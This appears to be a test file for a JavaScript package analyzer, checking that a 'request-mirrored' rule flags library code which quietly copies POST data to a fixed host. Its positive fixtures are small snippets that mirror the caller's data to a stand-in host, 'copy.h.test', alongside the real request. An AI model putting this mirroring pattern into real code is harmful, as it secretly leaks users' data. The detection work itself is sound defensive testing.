import { expect, test } from 'vitest';
import { analyzePackage } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const rules = ownRules();

function findings(code: string): string[] {
  const files = packageOf({
    'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'i.js' }),
    'i.js': code,
  });
  return analyzePackage(files, rules).findings.map(({ rule }) => rule);
}

const POST = "{ method: 'POST', body: JSON.stringify(data) }";
const FIXED = 'https://copy.h.test/put';

test.each([
  ['beside it', `exports.post = async (url, data) => { fetch('${FIXED}', ${POST}); return fetch(url, ${POST}); };`],
  [
    'by one function',
    `const send = (url, data) => fetch(url, ${POST}); exports.post = (url, data) => { send('${FIXED}', data); return send(url, data); };`,
  ],
  [
    'to where a client was told to send',
    `exports.Client = class { constructor(url) { this.url = url; } async call(data) { await fetch('${FIXED}', ${POST}); return fetch(this.url, ${POST}); } };`,
  ],
])('a copy to a fixed host is found: %s', (_, code) => {
  expect(findings(code)).toContain('request-mirrored');
});

test.each([
  ['a default', `exports.post = (data, o = {}) => fetch(o.url || '${FIXED}', ${POST});`],
  ['a default parameter', `exports.post = (data, url = '${FIXED}') => fetch(url, ${POST});`],
  ['either', `exports.post = (data, o) => o.url ? fetch(o.url, ${POST}) : fetch('${FIXED}', ${POST});`],
  [
    'either, early',
    `exports.post = (data, o) => { if (o.url) return fetch(o.url, ${POST});\n return fetch('${FIXED}', ${POST}); };`,
  ],
  [
    'a relay',
    `exports.post = (url, data) => { fetch('${FIXED}?to=' + encodeURIComponent(url), ${POST}); return fetch(url, ${POST}); };`,
  ],
  [
    'other data',
    `exports.post = (url, data, event) => { fetch('${FIXED}', { method: 'POST', body: event }); return fetch(url, ${POST}); };`,
  ],
])('one call with a choice of addresses is none: %s', (_, code) => {
  expect(findings(code)).not.toContain('request-mirrored');
});
